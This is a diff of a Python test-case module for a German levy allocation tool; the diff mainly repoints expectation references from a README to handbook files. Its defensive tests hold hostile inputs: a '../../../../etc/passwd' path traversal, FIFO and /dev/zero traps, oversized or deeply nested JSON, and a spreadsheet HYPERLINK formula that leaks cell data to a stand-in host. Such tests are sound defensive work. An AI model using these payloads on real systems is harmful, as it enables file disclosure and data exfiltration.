@@ -3,18 +3,20 @@
 What the product writes comes back as input: run manifests, the register of final runs, year folders, earlier
 output workbooks, notice templates and the CSV export. Each case below takes a fresh artefact made by a base run
 (`Bases`, built once per test module: committed files would carry one machine's paths and hashes), damages it
-the way a hand, a crash or an attacker would, names the command that reads it back and what the README's
+the way a hand, a crash or an attacker would, names the command that reads it back and what the handbook's
 contract says that command must answer: the exit code and the problem code, and where sensible the file, line
-or key path the problem names. The expectations are written here by hand from the README (sections "Manifest and
-`allocation verify`", "One way back in", "The register of final runs", "The levy year", "Security and limits"
-and the problem-code table), never taken from a run. `tests/test_tampered_artefacts.py` runs every case.
+or key path the problem names. The expectations are written here by hand from the handbook (docs/auditor/verify.md:
+"`allocation verify`" and "One way back in"; docs/auditor/register.md; docs/controller/umlagejahr.md;
+docs/operations/limits.md; and the problem-code table of docs/operations/exit-codes.md), never taken from a run.
+`tests/test_tampered_artefacts.py` runs every case.
 
 For `verify`, what it finds beyond a malformed manifest is not a problem code but a field of its report
-(README: `--json` gives `status`, `problems`, `changed_files`, `register`, `manifest_differences`,
+(docs/auditor/verify.md: `--json` gives `status`, `problems`, `changed_files`, `register`, `manifest_differences`,
 `differences`, `package_differences`): such a case's code names the field, and `field[code]` a problem code
 inside the field's text (`register[register-corrupt]`: the damaged register, reported as a finding).
 
-`python tests/artefact_cases.py` prints the index table of the README (`--write` writes it there).
+`python tests/artefact_cases.py` prints the index table of tests/corpus-artefacts/README.md (`--write` writes it
+there).
 """
 from __future__ import annotations
 
@@ -442,10 +444,12 @@ def xml_entity(workbook: Path) -> bytes:
 
 # ---------------------------------------------------------------------------------------------- manifests
 
-R_VERIFY = "README › Manifest and `allocation verify`, step 1: the manifest read back like any input"
-R_FILES = "README › verify, step 2: recorded files read only as regular files (a FIFO or device is never opened blocking)"
-R_REPLAY = "README › One way back in, Seals: a re-sealed manifest is found by the replay (verify, step 5)"
-R_ANY = ("README › Errors and exit codes, exit 7: any command, an earlier output whose manifest is unusable "
+R_VERIFY = "docs/auditor/verify.md › `allocation verify`, step 1: the manifest read back like any input"
+R_FILES = ("docs/auditor/verify.md › step 2: recorded files read only as regular files (a FIFO or device is never "
+           "opened blocking)")
+R_REPLAY = "docs/auditor/verify.md › One way back in, Seals: a re-sealed manifest is found by the replay (step 5)"
+R_ANY = ("docs/operations/exit-codes.md › Exit codes, exit 7: any command, an earlier output whose manifest is "
+         "unusable "
          "(`manifest-*`)")
 
 
@@ -566,11 +570,12 @@ _MANIFEST = [
      7, "changed_files", "Regeldatei nicht gefunden", R_FILES, {"hangs": True, "bench": True}),
     ("input-path-fifo", "the input's path as given names a FIFO of its name (its absolute path the real input), "
      "sealed again", _points_to("input", _fifo_at("gueltig.xlsx"), ("path",)), 7, "replay_error", "input-unreadable",
-     "README › verify, step 4 (replay) and Hostile input: a FIFO is `input-unreadable`, never opened",
+     "docs/auditor/verify.md › step 4 (replay), and docs/operations/limits.md › Hostile and broken input: a FIFO is "
+     "`input-unreadable`, never opened",
      {"hangs": True, "bench": True}),
     ("rules-path-dev-zero", "the rule file's path as given names `/dev/zero` (its absolute path the real file), sealed again",
      _points_to("rules", lambda bench: Path("/dev/zero"), ("path",)), 7, "replay_error", "rule-file-unreadable",
-     "README › verify, step 4 (replay): the rule file read as an input; a device is never read",
+     "docs/auditor/verify.md › step 4 (replay): the rule file read as an input; a device is never read",
      {"hangs": True, "bench": True}),
     ("workbook-fifo", "the workbook beside the manifest a FIFO", lambda workbook: fifo(workbook), 7, "changed_files",
      "nicht lesbar", R_FILES, {"hangs": True}),
@@ -583,10 +588,10 @@ _MANIFEST = [
      "Siegel", R_VERIFY + ": the seal does not fit the content", {}),
     ("sha-flipped-resealed", "one hex digit of `input.sha256` changed, sealed again",
      _sealed(lambda m: m["input"].__setitem__("sha256", _flip_hex(m["input"]["sha256"]))), 7, "changed_files",
-     "gueltig.xlsx", "README › verify, step 2: the input's hash", {}),
+     "gueltig.xlsx", "docs/auditor/verify.md › step 2: the input's hash", {}),
     ("output-sha-resealed", "one hex digit of `output.sha256` changed, sealed again",
      _sealed(lambda m: m["output"].__setitem__("sha256", _flip_hex(m["output"]["sha256"]))), 7, "changed_files",
-     WORKBOOK, "README › verify, step 2: the output's hash", {}),
+     WORKBOOK, "docs/auditor/verify.md › step 2: the output's hash", {}),
     ("key-removed", "`total_cents` removed, sealed again", _sealed(_del("total_cents")), 7, "manifest-missing-key",
      "total_cents", R_VERIFY + ": a missing key", {}),
     ("nested-key-removed", "`parameters.year` removed, sealed again", _sealed(_del("parameters", "year")), 7,
@@ -600,10 +605,10 @@ _MANIFEST = [
     ("duplicate-key", "`format` twice in the top object", _text_edit(lambda t: t.replace("{", '{\n  "format": "x",', 1)),
      7, "manifest-not-json", "zweimal", R_VERIFY + ": a duplicate key", {}),
     ("nan", "`total_cents` NaN", _text_edit(lambda t: re.sub(r'"total_cents": -?\d+', '"total_cents": NaN', t)), 7,
-     "manifest-not-json", "NaN", "README › Security and limits: manifests read back, no NaN", {}),
+     "manifest-not-json", "NaN", "docs/operations/limits.md › manifests read back: no NaN", {}),
     ("infinity", "`total_cents` -Infinity",
      _text_edit(lambda t: re.sub(r'"total_cents": -?\d+', '"total_cents": -Infinity', t)), 7, "manifest-not-json",
-     "Infinity", "README › One way back in: no NaN (nor Infinity)", {}),
+     "Infinity", "docs/auditor/verify.md › One way back in: no NaN (nor Infinity)", {}),
     ("deep", "100,000 nested brackets", _bytes_edit(lambda _: b"[" * 100_000 + b"]" * 100_000), 7, "manifest-too-large",
      ":1:33", R_VERIFY + ": nested deeper than 32 levels (the 33rd bracket named)", {}),
     ("whitespace-20mb", "20 MB of spaces after the JSON (beyond the 16 MiB bound)",
@@ -620,21 +625,24 @@ _MANIFEST = [
      "Siegel", R_VERIFY + ": `manifest-changed`, its seal does not fit its content", {}),
     ("value-edited-resealed", "a municipality's total raised by one cent, sealed again", _sealed(_total), 7,
      "manifest_differences", f"totals_cents.{ALPEN}.total", R_REPLAY, {}),
-    ("fifo", "the manifest a FIFO", _manifest_fifo, 7, "manifest-unreadable", SUFFIX, R_VERIFY + "; README › One way back "
-     "in: a FIFO is refused before a byte is read", {"hangs": True}),
+    ("fifo", "the manifest a FIFO", _manifest_fifo, 7, "manifest-unreadable", SUFFIX,
+     R_VERIFY + "; docs/auditor/verify.md › One way back in: a FIFO is refused before a byte is read",
+     {"hangs": True}),
     ("symlink-dev-zero", "the manifest a symbolic link to `/dev/zero`",
      lambda workbook: symlink(manifest_of(workbook), "/dev/zero"), 7, "manifest-unreadable", SUFFIX,
-     "README › One way back in, Bounds: a device is refused before a byte is read", {"hangs": True}),
+     "docs/auditor/verify.md › One way back in, Bounds: a device is refused before a byte is read", {"hangs": True}),
     ("missing", "the manifest removed", lambda workbook: manifest_of(workbook).unlink(), 7, "manifest-unreadable", SUFFIX,
      R_VERIFY, {}),
     ("directory", "the manifest a folder", lambda workbook: (manifest_of(workbook).unlink(), manifest_of(workbook).mkdir()),
-     7, "manifest-unreadable", SUFFIX, "README › One way back in, Bounds: only regular files are read", {}),
+     7, "manifest-unreadable", SUFFIX, "docs/auditor/verify.md › One way back in, Bounds: only regular files are "
+                                       "read", {}),
     ("downgrade-seal-kept", "`format` downgraded to `allocation-manifest/1`, seal kept",
      _unsealed(_set("allocation-manifest/1", "format")), 7, "manifest-bad-value", "format",
      R_VERIFY + ": a /1 manifest was written before the seal; one with a seal is not /1", {}),
     ("downgrade-edited", "`format` downgraded to `allocation-manifest/1`, seal removed, a total raised by one cent",
      _unsealed(_downgrade_edited), 7, "manifest_differences", f"totals_cents.{ALPEN}.total",
-     "README › One way back in, Seals: what re-sealing (or dropping the seal) hides, the replay finds", {}),
+     "docs/auditor/verify.md › One way back in, Seals: what re-sealing (or dropping the seal) hides, the replay "
+     "finds", {}),
     ("format-unknown", "`format` = `allocation-manifest/9`, sealed again", _sealed(_set("allocation-manifest/9", "format")),
      7, "manifest-bad-value", "format", R_VERIFY + ": an unknown `format`", {}),
     ("started-not-a-time", "`started_utc` = \"gestern\", sealed again", _sealed(_set("gestern", "started_utc")), 7,
@@ -647,16 +655,17 @@ _MANIFEST = [
 
 _FINAL_MANIFEST = [
     ("register-other-seq", "a final run's `register.seq` 3 → 2, sealed again", _sealed(_set(2, "register", "seq")), 7,
-     "register", "Eintrag Nr. 2", "README › verify, step 3: the entry (file, seq, hash) must be in the register", {}),
+     "register", "Eintrag Nr. 2", "docs/auditor/verify.md › step 3: the entry (file, seq, hash) must be in the "
+                                  "register", {}),
     ("register-other-file", "a final run's `register.file` → `kleve-2022.jsonl`, sealed again",
      _sealed(_set("kleve-2022.jsonl", "register", "file")), 7, "register", "kleve-2022.jsonl",
-     "README › verify, step 3: the entry (file, seq, hash) must be in the register", {}),
+     "docs/auditor/verify.md › step 3: the entry (file, seq, hash) must be in the register", {}),
     ("register-file-path", "a final run's `register.file` → `../wesel-2022.jsonl`, sealed again",
      _sealed(_set("../wesel-2022.jsonl", "register", "file")), 7, "manifest-bad-value", "register.file",
-     "README › One way back in: paths are never trusted (a register file is a plain name)", {}),
+     "docs/auditor/verify.md › One way back in: paths are never trusted (a register file is a plain name)", {}),
     ("final-as-test", "a final run's `parameters.mode` → `test` (to skip the register), sealed again",
      _sealed(_set("test", "parameters", "mode")), 7, "manifest-bad-value", "register",
-     "README › verify, step 5: a `register` entry belongs to a final run only", {}),
+     "docs/auditor/verify.md › step 5: a `register` entry belongs to a final run only", {}),
 ]
 
 
@@ -691,10 +700,11 @@ def manifest_cases() -> list[Case]:
 
 # ---------------------------------------------------------------------------------------------- register
 
-R_REGISTER = ("README › The register of final runs: a damaged register stops every final run and every command "
+R_REGISTER = ("docs/auditor/register.md › A damaged register stops every final run and every command "
               "that writes a file (`register-corrupt`, exit 8, naming the file and line)")
-R_REGISTER_VERIFY = "README › verify, step 3 and The register: a damaged register is a finding, exit 7"
-R_STATUS = "README › The register: `register status` exits 8 with the located problem if it is damaged"
+R_REGISTER_VERIFY = ("docs/auditor/verify.md › step 3, and docs/auditor/register.md: a damaged register is a finding, "
+                     "exit 7")
+R_STATUS = "docs/auditor/register.md › `allocation register status` exits 8 with the located problem if it is damaged"
 DISTRICT, CHAIN = "wesel-2022.jsonl", "_kette.jsonl"
 
 
@@ -797,7 +807,7 @@ _UNUSABLE_EXPECT = {
     "verify": ("verify (Echtlauf)", 7, "register[register-unusable]"),
     "status": ("register status", 9, "register-unusable"),
 }
-R_UNUSABLE = "README › The register: a register place that is a file is `register-unusable` (exit 9)"
+R_UNUSABLE = "docs/auditor/register.md › Concurrency: a register place that is a file is `register-unusable` (exit 9)"
 
 
 def _register_case(name: str, tampering: str, damage: Callable[[Bench], None], where: str | None, hangs: bool,
@@ -829,13 +839,16 @@ def register_cases() -> list[Case]:
 
 # ------------------------------------------------------------------------------------------- year folders
 
-R_YEAR = ("README › The levy year, the hash chain: an edited, reordered or removed line, a line cut short or bound "
-          "to another jahr.json is `year-chain-broken` (exit 7), naming the line; `year stage` refuses to append")
-R_STAGE = ("README › The levy year: a changed or missing file, an orphan stage folder, a link, FIFO or device in "
-           "the year folder are `year-stage-changed` (exit 7)")
-R_NOT_YEAR = ("README › problem codes, levy year: `year-not-a-year-folder` (exit 8); Security and limits: the year "
-              "folder's records are regular files, no links, `jahr.json` 64 KiB, JSON 32 deep")
-R_SEAL = "README › One way back in, Seals: `jahr.json` and every stage line carry a seal (`year-chain-broken`)"
+R_YEAR = ("docs/controller/umlagejahr.md › `allocation year status`, the hash chain: an edited, reordered or removed "
+          "line, a line cut short or bound to another jahr.json is `year-chain-broken` (exit 7), naming the line; "
+          "`year stage` refuses to append")
+R_STAGE = ("docs/controller/umlagejahr.md › `allocation year status`: a changed or missing file, an orphan stage "
+           "folder, a link, FIFO or device in the year folder are `year-stage-changed` (exit 7)")
+R_NOT_YEAR = ("docs/operations/exit-codes.md › Problem codes, levy year: `year-not-a-year-folder` (exit 8); "
+              "docs/operations/limits.md: the year folder's records are regular files, no links, `jahr.json` 64 KiB, "
+              "JSON 32 deep")
+R_SEAL = ("docs/auditor/verify.md › One way back in, Seals: `jahr.json` and every stage line carry a seal "
+          "(`year-chain-broken`)")
 YEAR_FILE, STAGES = "jahr.json", "stufen.jsonl"
 
 
@@ -919,24 +932,28 @@ _YEAR_DAMAGES = [
      "year-stage-changed", "01-modell", R_STAGE, False),
     ("path-dotdot", "stufen.jsonl: the last line's input `../../../../etc/passwd`, sealed again",
      lambda b: _sealed_line(_stages(b), 2, _set_file("input", "../../../../etc/passwd")), 7, "year-chain-broken",
-     f"{STAGES}:2", "README › The levy year: a path in a line must name a file of its own stage folder", False),
+     f"{STAGES}:2", "docs/controller/umlagejahr.md › `allocation year status`: a path in a line must name a file of "
+                    "its own stage folder", False),
     ("path-other-stage", "stufen.jsonl: the last line's output names 01-modell's output, sealed again",
      lambda b: _sealed_line(_stages(b), 2, _set_file("output", "01-modell/ergebnis-modell.xlsx")), 7,
-     "year-chain-broken", f"{STAGES}:2", "README › The levy year: a path in a line must name a file of its own "
+     "year-chain-broken", f"{STAGES}:2", "docs/controller/umlagejahr.md › `allocation year status`: a path in a line "
+                                         "must name a file of its own "
      "stage folder", False),
     ("line-surrogate", "stufen.jsonl: the last line's reason with a lone surrogate escape, sealed again",
      lambda b: _sealed_line(_stages(b), 2, _set_record("reason", "\ud800"), ascii_only=True), 7, "year-chain-broken",
      f"{STAGES}:2", R_YEAR + "; text that is no Unicode is not JSON we read", False),
     ("line-deep", f"stufen.jsonl: a line of {DEEP} nested brackets appended", lambda b: append_line(_stages(b), deep_json()),
-     7, "year-chain-broken", f"{STAGES}:3", "README › Security and limits: JSON nested at most 32 deep", False),
+     7, "year-chain-broken", f"{STAGES}:3", "docs/operations/limits.md › the year folder's records: JSON nested at "
+                                            "most 32 deep", False),
     ("line-2mb", "stufen.jsonl: a 2 MB line appended",
      lambda b: append_line(_stages(b), b'{"reason": "' + b"x" * (2 << 20) + b'"}'), 7, "year-chain-broken",
-     f"{STAGES}:3", "README › Security and limits: 1 MiB per line", False),
+     f"{STAGES}:3", "docs/operations/limits.md › the year folder's records: 1 MiB per line", False),
     ("chain-fifo", "stufen.jsonl a FIFO", lambda b: fifo(_stages(b)), 7, "year-chain-broken", STAGES,
-     "README › One way back in, Bounds: a FIFO is refused before a byte is read", True),
+     "docs/auditor/verify.md › One way back in, Bounds: a FIFO is refused before a byte is read", True),
     ("chain-symlink", "stufen.jsonl a symbolic link to a copy of itself",
      lambda b: (shutil.copyfile(_stages(b), b.path("kopie.jsonl")), symlink(_stages(b), b.path("kopie.jsonl"))), 7,
-     "year-chain-broken", STAGES, "README › One way back in: a symbolic link is refused inside the year folder", False),
+     "year-chain-broken", STAGES, "docs/auditor/verify.md › One way back in: a symbolic link is refused inside the "
+                                  "year folder", False),
     ("orphan-folder", "an orphan stage folder 03-entwurf/", lambda b: b.path("jahr", "03-entwurf").mkdir(), 7,
      "year-stage-changed", "03-entwurf", R_STAGE, False),
     ("input-changed", "01-modell/gueltig.xlsx changed (a byte appended)", _changed_file("01-modell", "gueltig.xlsx"), 7,
@@ -979,19 +996,19 @@ def year_cases() -> list[Case]:
 
 # ---------------------------------------------------------------------------------------------- earlier outputs
 
-R_HASH = ("README › One way back in, Hashes: a workbook without its manifest is `output-no-manifest` (exit 3; "
-          "`compare-not-an-output` for compare), one that does not match it `output-changed` (exit 7; "
+R_HASH = ("docs/auditor/verify.md › One way back in, Hashes: a workbook without its manifest is `output-no-manifest` "
+          "(exit 3; `compare-not-an-output` for compare), one that does not match it `output-changed` (exit 7; "
           "`notices-previous-changed` for notices --previous)")
-R_BOUNDS = ("README › Security and limits, output workbooks read back: the input's zip checks (zip bombs, XML "
+R_BOUNDS = ("docs/operations/limits.md › output workbooks read back: the input's zip checks (zip bombs, XML "
             "entities) keep their codes, exit 3")
-R_UNREADABLE = ("README › Security and limits, output workbooks read back: a regular file only; a damaged one is "
+R_UNREADABLE = ("docs/operations/limits.md › output workbooks read back: a regular file only; a damaged one is "
                 "`<command>-unreadable`, exit 3")
-R_RELATION = "README › One way back in, District and year"
+R_RELATION = "docs/auditor/verify.md › One way back in, District and year"
 
 
 def _earlier_damages(command: str) -> list[tuple]:
     """(id, tampering, damage(bench, workbook), exit, code, where, why, hangs) for one reading command; the codes
-    each command has of its own (README, One way back in)."""
+    each command has of its own (docs/auditor/verify.md, One way back in)."""
     unreadable = f"{command}-unreadable"
     missing = {"compare": (3, "compare-not-an-output"), "notices": (7, "notices-previous-changed")}.get(
         command, (3, "output-no-manifest"))
@@ -1065,7 +1082,7 @@ def earlier_cases() -> list[Case]:
     cases += [
         _earlier_case("explain", "manifest-of-another-name", "beside it the manifest of a workbook of another name",
                       _other_name, 7, "manifest-bad-value", "output.file",
-                      "README › verify, step 1: `output.file` must be the workbook beside the manifest"),
+                      "docs/auditor/verify.md › step 1: `output.file` must be the workbook beside the manifest"),
         _earlier_case("compare", "other-district", "the second workbook is Kreis Kleve's", _untouched, 3,
                       "compare-other-district", None, R_RELATION + ": compare two outputs of one district", False,
                       lambda b: b.bases.small["kleve"]),
@@ -1073,9 +1090,11 @@ def earlier_cases() -> list[Case]:
                       "trueup-superseded", "Nr. 3", R_RELATION + ": trueup the final run in force (naming it)", False,
                       lambda b: b.bases.finals["1"]),
         _earlier_case("trueup", "test-run", "a test run instead of a final run", _untouched, 3, "trueup-not-final", None,
-                      "README › Probelauf / Echtlauf: only a final run can be settled", False, lambda b: b.bases.small["a"]),
+                      "docs/controller/ergebnis.md › Spitzabrechnung: only a final run can be "
+                      "settled", False, lambda b: b.bases.small["a"]),
         _earlier_case("trueup", "other-district", "the final run of Kreis Kleve against Wesel's figures", _untouched, 3,
-                      "trueup-mismatch", None, "README › problem codes: `trueup-mismatch` (exit 3)", False,
+                      "trueup-mismatch", None, "docs/operations/exit-codes.md › Problem codes: `trueup-mismatch` "
+                                               "(exit 3)", False,
                       lambda b: b.bases.finals["kleve"]),
         _earlier_case("notices", "other-district", "--previous: a run of Kreis Kleve", _untouched, 3,
                       "notices-previous-mismatch", None, R_RELATION + ": a change notice's --previous the same Kreis", False,
@@ -1110,8 +1129,8 @@ def earlier_cases() -> list[Case]:
     return cases
 
 
-R_FORGED = ("README › One way back in, District and year: the relation is the workbook's own (its Protokoll); a "
-            "manifest that names another is one the workbook does not match, `output-changed` (exit 7)")
+R_FORGED = ("docs/auditor/verify.md › One way back in, District and year: the relation is the workbook's own (its "
+            "Protokoll); a manifest that names another is one the workbook does not match, `output-changed` (exit 7)")
 
 
 def _manifest_says(key: str, value: object) -> Callable[[Bench, Path], None]:
@@ -1139,8 +1158,8 @@ def _later_as_previous() -> Case:
 
     return Case("earlier/notices/later-run", "earlier", "--previous: the final run registered after the new one",
                 _EARLIER_SHOWN["notices"], 3, "notices-superseded",
-                "README › Levy notices: the new run is superseded by the later one, so no notice is written from it "
-                "(refused before its --previous is read)", prepare, typst=True)
+                "docs/controller/bescheide.md › the new run is superseded by the later one, so no notice is written "
+                "from it (refused before its --previous is read)", prepare, typst=True)
 
 
 def _notices_main(name: str, tampering: str, damage: Callable[[Path], None]) -> Case:
@@ -1150,15 +1169,18 @@ def _notices_main(name: str, tampering: str, damage: Callable[[Path], None]) -> 
         return call("notices", workbook, "-o", bench.path("bescheide"), "--date", "2022-03-15", "--json")
 
     return Case(f"earlier/notices/main-{name}", "earlier", tampering, "notices OUT", 7, "notices-not-verified",
-                "README › Levy notices: it refuses unless the run is confirmed (`notices-not-verified`, exit 7)",
+                "docs/controller/bescheide.md › it refuses unless the run is confirmed "
+                "(`notices-not-verified`, exit 7)",
                 prepare, typst=True)
 
 
 # ------------------------------------------------------------------------------------ templates and exports
 
-R_TEMPLATE = ("README › Template: only folders and regular files are copied; a link, FIFO, device or socket is "
-              "`notices-template-file`, more than 50 MiB per file `notices-template-too-large` (exit 2)")
-R_IN_TEMPLATE = "README › Template: `-o` in the template folder is `notices-output-in-template` (exit 8)"
+R_TEMPLATE = ("docs/operations/limits.md › Notice templates run within bounds: only folders and regular files are "
+              "copied; a link, FIFO, device or socket is `notices-template-file`, more than 50 MiB per file "
+              "`notices-template-too-large` (exit 2)")
+R_IN_TEMPLATE = ("docs/operations/limits.md › Notice templates run within bounds: `-o` in the template folder is "
+                 "`notices-output-in-template` (exit 8)")
 
 
 def _template(bench: Bench) -> Path:
@@ -1217,10 +1239,10 @@ def template_cases() -> list[Case]:
     return cases
 
 
-R_CSV = ("README › Levy notices, Abschlaege.csv: text fields that begin with `=`, `+`, `-`, `@`, a tab or a carriage "
-         "return get a leading apostrophe")
-R_TRIM = ("README › Hostile and broken input: values are trimmed, so a Gemeinde name read from the input never "
-          "begins with a tab or carriage return")
+R_CSV = ("docs/controller/bescheide.md › Abschlaege.csv: text fields that begin with `=`, `+`, `-`, `@`, a tab or a "
+         "carriage return get a leading apostrophe")
+R_TRIM = ("docs/operations/limits.md › Hostile and broken input: values are trimmed, so a Gemeinde name read from "
+          "the input never begins with a tab or carriage return")
 _HOSTILE_NAMES = {"05170004": '=HYPERLINK("http://x.example/?"&A1;"Klick")', "05170008": "+Dinslaken",
                   "05170012": "-Hamminkeln", "05170016": "@Hünxe", "05170020": "\tKamp-Lintfort", "05170024": "\rMoers"}
 # what the CSV must show in Gemeinde, by hand: the apostrophe before a formula start, the trimmed names as they are
@@ -1280,7 +1302,7 @@ def _cell(text: str) -> str:
 
 
 def index_table() -> str:
-    """The README's index: one row per case."""
+    """The corpus index (tests/corpus-artefacts/README.md): one row per case."""
     rows = ["| id | artefact | tampering | command | exit | problem code | why |", "|---|---|---|---|---|---|---|"]
     rows += [f"| `{c.id}` | {c.artefact} | {_cell(c.tampering)} | `{_cell(c.command)}` | {c.exit} | `{_cell(c.code)}` | "
              f"{_cell(c.why)} |" for c in CASES]
